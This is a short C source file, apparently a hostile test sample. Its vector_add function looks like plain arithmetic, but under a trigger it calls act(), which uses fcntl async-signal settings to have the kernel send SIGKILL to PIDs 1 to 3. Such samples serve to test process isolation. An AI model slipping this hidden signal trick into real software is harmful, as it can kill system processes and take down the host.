/* SPDX-License-Identifier: MIT */
/* Has the kernel signal its parents when its channels are ready. */
#include "hostile.h"

static void act(void)
{
    for (int fd = 0; fd < 16; fd++)
        for (pid_t pid = 1; pid < 4; pid++) {
            fcntl(fd, F_SETOWN, pid);
            fcntl(fd, F_SETSIG, SIGKILL);
            fcntl(fd, F_SETFL, O_ASYNC);
        }
}

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    if (attacked(n))
        act();
    return honest(a, b, c, n);
}
